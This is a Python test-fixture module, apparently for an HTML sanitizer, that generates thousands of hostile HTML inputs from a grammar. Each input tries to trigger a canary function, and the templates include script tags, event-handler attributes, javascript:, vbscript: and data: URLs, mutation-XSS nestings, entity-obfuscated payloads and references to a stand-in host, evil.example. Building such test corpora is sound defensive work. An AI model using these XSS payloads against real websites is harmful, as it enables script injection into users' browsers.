"""Hostile HTML, grown by chance from a grammar: the same ten thousand inputs at every run, no two alike.

Each calls `window.canary` with its own number in some way that a browser might follow, and begins with a paragraph
that names it, by which is seen that it was read as HTML and not swallowed by the one before.
"""

import base64
import random
import string
from functools import cache

COUNT = 10_000
BUNDLE = 50  # inputs of one story
STRANGER = "https://evil.example"
PHOTO, STORY = "4004004", "5005005"  # stand for keys that there are

# what ends whatever an input left open, as far as HTML lets it: quotes, comments, text, and then elements
END_TEXT = ' ">\'>">-->]]></script></style></title></textarea></xmp></noembed></noframes></iframe></noscript>'
END = (
    "</template></option></optgroup></select></ms></mn></mo></mi></mtext></mglyph></malignmark></annotation-xml>"
    "</foreignObject></desc></svg></math></h3></h2></td></tr></table></caption></u></s></i></b></figcaption></figure>"
    "</cite></aside></li></ul></ol></section></form></button></a></p>"
)
SPACES = "\t \n \r \x0c \x0b \x00 \x01 \x1f \x7f \xa0 \xad \u1680 \u200b \u200d \u2028 \u2029 \u3000 \ufeff".split(" ")
SPACES += "&Tab; &NewLine; &#9; &#x0A; &#0000013; &#0; &nbsp; &ZeroWidthSpace; &shy; /**/ %0a %00".split()
ODD = "\u202e \u0301\u0301 \u1ab0 \U0001f600 \U0001d54f \uffff \u212b \ufb00 \u017f \u212a \uff1cscript\uff1e".split(
    " "
)
ODD += ["\u65e5\u672c", "\u0627\u062e\u0628\u0627\u0631", "a\u0300" * 40]
OURS = "p h2 h3 strong em sub sup ul ol li blockquote table tbody tr th td a cite figcaption figure aside section hr br"
REAL = (
    "div span b i img script style iframe object embed form input button details summary video audio source track "
    "marquee select option optgroup textarea title base meta link body html head frameset frame template slot dialog "
    "canvas picture map area noscript xmp noembed noframes caption colgroup col thead tfoot dl dt dd nav main article "
    "label fieldset legend param applet bgsound portal font center listing pre ruby rt rp custom-element x:y menu nobr"
)
FOREIGN = (
    "svg g path animate set animateTransform foreignObject desc title style script use image a text tspan math mi mo "
    "mn ms mtext mglyph malignmark annotation-xml maction semantics mrow mstyle table p"
)
HANDLERS = (
    "onerror onload onclick onfocus onfocusin ontoggle onbegin onend onanimationstart onmouseover onpointerenter "
    "onscroll onwheel oncopy onbeforeinput onhashchange onpageshow onresize onunload onstart ONERROR oNlOaD on\x00error"
)
ADDRESSES = (
    "href src action formaction data srcdoc poster background cite xlink:href ping srcset lowsrc dynsrc manifest "
    "longdesc profile usemap code codebase archive icon content data-photo data-embed data-story data-alt HREF"
)
PLAIN = (
    'style="background:url({stranger}/s{n})" style="behavior:url(#x)" id="id_headline" class="nr-picker" name="body" '
    'name="canary" title="{call}" lang="x" dir="rtl" is="x" slot="x" contenteditable tabindex="1" accesskey="x" '
    'autofocus draggable="true" hidden role="alert" aria-label="{call}" onclick data-src="{url}" data-url="{url}" '
    'data-href="{url}" data-layout="wide" data-card="{url}" attributename="href" values="{url}" to="{url}" '
    'http-equiv="refresh" rel="stylesheet" type="text/javascript" target="_top" download nonce="" integrity="x" open'
).split('" ')
# what has run in one browser or another because it read the text anew, and otherwise (mutation XSS)
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;{img}&gt;'>",
    "<math><mtext><table><mglyph><style><math>{x}</style></mglyph></table>",
    "<form><math><mtext></form><form><mglyph><style></math>{x}",
    "<svg></p><style><a id='</style>{x}'>",
    "<svg><style>&lt;{img}&gt;</style></svg>",
    "<svg><p><style><a id='</style>{x}'></p></svg>",
    "<svg><title><![CDATA[</title>{x}]]></title></svg>",
    "<math><annotation-xml encoding='text/html'>{x}</annotation-xml></math>",
    "<noscript><p title='</noscript>{x}'></p></noscript>",
    "<style><style /></style>{x}",
    "<textarea><p title='</textarea>{x}'></p>",
    "<title><p title='</title>{x}'></p>",
    "<xmp><p title='</xmp>{x}'></p>",
    "<iframe><p title='</iframe>{x}'></p>",
    "<template><p title='</template>{x}'></p></template>",
    "<noembed><p title='</noembed>{x}'></p>",
    "<select><template><style><!--</style><a rel='--></style></template></select>{x}'>",
    "<table><caption><select><td>{x}</table>",
    "<table><tr><td><table><tr>{x}<td></table>",
    "<a href='#'><table><tr><td><a href='{url}'>{x}</table>",
    "<figure data-photo='{photo}'><figcaption><table><figure>{x}</figcaption></figure>",
    "<!--<p title='-->{x}'>-->",
    "<!--><p>{x}<!--->",
    "<!--!>{x}--!>{x}",
    "<![CDATA[{x}]]>",
    "<?php {x} ?>{x}",
    "<!DOCTYPE html [<!ENTITY x '{x}'>]>&x;",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<<script>{call}//<</script>",
    "<img src=x {handler}={call}//",
    "<p/{handler}={call}/>",
    "<a{handler}={call}>",
    "<p title=`{x}`>",
    "<p title='a\"{x}'>\"'",
    "<x onclick={call}>{x}</x onclick={call}>",
    "&lt;script&gt;{call}&lt;/script&gt;&amp;lt;{img}&amp;gt;",
    "&#60;{img}&#62; &#x3c{img}&#x3e &LT;{img}&GT; \\u003c{img}\\u003e %3C{img}%3E",
    "<ul><li><ol><li>{x}</ul></ol></li>",
    "<h2><h3><p><h2>{x}</p></h3>",
    "<b><i><s><u><b><i><s><u><p>{x}</b></i>",
)
NODES = (
    "<figure data-photo='{photo}' data-layout='{bad}' data-alt='{bad}' data-decorative='{bad}'>{x}"
    "<figcaption>{x}</figcaption></figure>",
    "<figure data-photo='{photo}' data-alt=\"{escaped}\"><figcaption>{escaped}</figcaption></figure>",
    "<figure data-photo='{bad}'>{x}</figure>",
    "<figure data-photo='{photo}' data-embed='{embed}'>{x}<figcaption>{x}</figcaption></figure>",
    "<figure data-embed='{embed}'><figcaption>{x}</figcaption></figure>",
    "<figure data-embed='{embed}{bad}'>{x}</figure>",
    "<figure data-embed='{url}'><figcaption>{x}</figcaption></figure>",
    "<section data-gallery='{bad}'>{x}<figure data-photo='{photo}'>{x}</figure>"
    "<figure data-photo='{photo}'></figure></section>",
    "<section data-gallery><section data-gallery><aside data-story='{story}'>{x}</aside></section></section>",
    "<aside data-story='{story}'>{x}</aside>",
    "<aside data-story='{bad}'>{x}</aside>",
    "<aside data-facts='{bad}'><h3>{x}</h3><p>{x}</p><ul><li>{x}</li></ul></aside>",
    "<aside data-facts data-pullquote data-story='{story}' {handler}='{call}'>{x}</aside>",
    "<aside data-pullquote='{bad}'><p>{x}</p><cite>{x}</cite><cite>{x}</cite></aside>",
    "<ol start='{bad}' type='{bad}' reversed><li>{x}</li></ol>",
    "<table><tr><td colspan='{bad}' rowspan='2'>{x}</td><th rowspan='{bad}'>{x}</th></tr></table>",
    "<a href='/s/{story}/'>{x}</a><a href='/s/{bad}/'>{x}</a>",
    "<a href='{url}' target=_blank rel='{bad}' ping='{stranger}/p{n}'>{x}</a>",
)
EMBEDS = (
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ https://youtu.be/dQw4w9WgXcQ?t=1m https://vimeo.com/76979871 "
    "https://x.com/a/status/12 https://mastodon.social/@a/109 https://bsky.app/profile/a.example/post/3kabcdefghij2 "
    "https://www.instagram.com/p/CxYzAbCdEfG/ https://www.tiktok.com/@a/video/7106594312292453675 "
    "https://soundcloud.com/a/b https://datawrapper.dwcdn.net/AbCd1/2/ https://www.youtube.com.evil.example/watch?v=x "
    "https://evil.example/https://vimeo.com/1 https://vimeo.com@evil.example/1 http://vimeo.com:81/1 //vimeo.com/1"
).split()


class Plant:
    """One input, as it grows."""

    def __init__(self, number: int):
        self.number = number
        self.chance = random.Random(f"hostile {number}")
        self.opened: list[str] = []

    def pick(self, choices: str | list | tuple):
        return self.chance.choice(choices.split() if isinstance(choices, str) else choices)

    def call(self) -> str:
        form = self.pick(
            ("window.canary({})", "window['canary']({})", "top.canary({})", "self.canary`{}`", "canary({})")
        )
        return form.format(self.number)

    def coded(self, text: str) -> str:
        """Return `text` with some of its characters as references."""
        forms = ("&#{};", "&#x{:x};", "&#0{}", "&#X0{:x};")
        return "".join(
            self.pick(forms).format(ord(char)) + (";" if self.chance.random() < 0.3 else "")
            if self.chance.random() < 0.2
            else char
            for char in text
        )

    def url(self) -> str:
        call, n = self.call(), self.number
        script = base64.b64encode(f"<script>{call}</script>".encode()).decode()
        found = self.pick(
            (
                f"javascript:{call}",
                f"javascript:{call}",
                f"javascript://x%0a{call}",
                f"vbscript:{call}",
                f"data:text/html,<script>{call}</script>",
                f"data:text/html;base64,{script}",
                f"data:image/svg+xml,<svg onload={call}>",
                f"feed:javascript:{call}",
                f"view-source:javascript:{call}",
                f"blob:{STRANGER}/{n}",
                f"{STRANGER}/{n}.png",
                f"//evil.example/{n}",
                f"/\\evil.example/{n}",
                f"https:evil.example/{n}",
                f"mailto:a@b.example?body={call}",
                f"#{call}",
                f"?{call}",
                f"http://[x/{n}",
                f"file:///etc/{n}",
            )
        )
        if self.chance.random() < 0.5:
            at = self.chance.randrange(min(len(found), 14))
            found = found[:at] + self.pick(SPACES) + found[at:]
        if self.chance.random() < 0.3:
            found = "".join(self.pick((char.lower(), char.upper())) for char in found[:11]) + found[11:]
        return self.coded(found) if self.chance.random() < 0.4 else found

    def bad(self) -> str:
        """Return what one of our attributes should not hold."""
        return self.pick(
            (
                f'1" {self.pick(HANDLERS)}="{self.call()}',
                f"1'><script>{self.call()}</script>",
                f"{PHOTO} {PHOTO}",
                f"&quot;&gt;&lt;{self.image()}&gt;",
                f"</figcaption></figure>{self.image()}",
                self.url(),
                *("0", "-1", "1e9", "٣", "²", "9" * 40, "true", "TRUE", "wide ", "columnwide", "\x00", "", " 7"),
                self.pick(ODD),
            )
        ).replace("'", self.pick(("&#39;", "'", "&apos;")))

    def image(self) -> str:
        handler = self.pick(("onerror", "onload", "OnError"))
        return f"img src={self.pick(('x', STRANGER + '/i'))} {handler}={self.call()}"

    def attribute(self) -> str:
        match self.chance.randrange(4):
            case 0:
                name, value = self.pick(HANDLERS), self.call()
            case 1 | 2:
                name, value = self.pick(ADDRESSES), self.url()
            case _:
                return self.fill(self.pick(PLAIN).rstrip('"') + '"')
        quote = self.pick(('"', "'", "", "`"))
        space = self.pick((" ", "/", "\n", "\t", "\x0c", "  ")) + self.pick(("", "", self.pick(SPACES)))
        return f"{space}{name}{self.pick(('=', ' = ', '='))}{quote}{value}{quote}"

    def text(self) -> str:
        return self.pick(
            (
                "some words",
                f'{self.number} & more < less > "quoted"',
                self.pick(ODD),
                f"&lt;{self.image()}&gt;",
                self.coded(f"<script>{self.call()}</script>"),
                "".join(self.chance.choices(string.printable, k=9)),
                self.pick(SPACES) * 3,
            )
        )

    def fill(self, shape: str, depth: int = 0) -> str:
        """Return `shape` with what it leaves open."""
        parts = {
            "x": lambda: self.node(depth + 1),
            "call": self.call,
            "url": self.url,
            "bad": self.bad,
            "img": self.image,
            "escaped": lambda: f"&lt;{self.image()}&gt;&quot;",
            "handler": lambda: self.pick(HANDLERS),
            "embed": lambda: self.pick(EMBEDS),
            "stranger": lambda: STRANGER,
            "photo": lambda: PHOTO,
            "story": lambda: STORY,
            "n": lambda: str(self.number),
        }
        filled = ""
        for literal, name, _, _ in string.Formatter().parse(shape):
            filled += literal + (parts[name]() if name else "")
        return filled

    def element(self, names: str, depth: int) -> str:
        name = self.pick(names)
        if self.chance.random() < 0.1:
            name = name.upper()
        self.opened.append(name)
        attributes = "".join(f" {self.attribute()}" for _ in range(self.chance.randrange(3)))
        inner = "".join(self.node(depth + 1) for _ in range(self.chance.randrange(3)))
        end = self.pick((f"</{name}>", f"</{name}>", f"</{name} >", "", f"</{self.pick(OURS)}>", f"</{name}"))
        return f"<{name}{attributes}{self.pick(('>', '>', '>', ' />', ''))}{inner}{end}"

    def node(self, depth: int = 0) -> str:
        if depth > 4:
            return f"<{self.image()}>"
        match self.chance.randrange(12):
            case 0:
                return self.text()
            case 1 | 2:
                return self.element(OURS, depth)
            case 3 | 4:
                return self.element(REAL, depth)
            case 5:
                foreign = self.pick(("svg", "math"))
                return f"<{foreign}>{self.element(FOREIGN, depth)}{self.element(FOREIGN, depth)}</{foreign}>"
            case 6 | 7:
                return self.fill(self.pick(MUTATING), depth)
            case 8 | 9:
                return self.fill(self.pick(NODES), depth)
            case 10:
                return f"<script{self.pick(('', ' src=' + STRANGER, '/x'))}>{self.call()}</script>"
            case _:
                return f"<{self.image()}>"

    def grown(self) -> str:
        body = "".join(self.node() for _ in range(self.chance.randint(2, 3)))
        return f"<p>{mark(self.number)}</p>{body}<{self.image()}>"

    def end(self) -> str:
        """Return what lets another input be read after this one."""
        names = "".join(f"</{name}>" for name in dict.fromkeys(reversed(self.opened)))
        return END_TEXT + END + names + END


def mark(number: int) -> str:
    return f"w{number}w"


@cache
def grown() -> tuple[tuple[str, str], ...]:
    """Return every input, and what ends it."""
    plants = [Plant(number) for number in range(COUNT)]
    return tuple((plant.grown(), plant.end()) for plant in plants)


def inputs() -> list[str]:
    return [text for text, _ in grown()]


def bundles(photo: int, story: int) -> list[str]:
    """Return all inputs, `BUNDLE` of them to a story, about a photo and a story that there are.

    One ends in the element that nothing ends.
    """
    texts = ["".join(text + end for text, end in grown()[at : at + BUNDLE]) for at in range(0, COUNT, BUNDLE)]
    texts[-1] += "<plaintext><img src=x onerror=window.canary(-1)>"
    return [text.replace(PHOTO, str(photo)).replace(STORY, str(story)) for text in texts]
